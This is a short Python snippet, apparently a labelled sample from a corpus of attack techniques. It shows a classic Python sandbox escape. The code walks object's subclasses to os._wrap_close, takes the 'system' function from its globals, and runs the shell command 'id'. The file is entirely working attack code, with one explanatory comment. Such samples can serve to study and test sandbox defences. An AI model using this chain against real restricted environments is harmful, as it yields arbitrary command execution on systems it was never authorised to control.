# corpus: attack class=internals form=textbook
# The class hierarchy leads to os._wrap_close, whose globals hold system.
def main():
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == "_wrap_close":
            return {"status": cls.__init__.__globals__["system"]("id")}
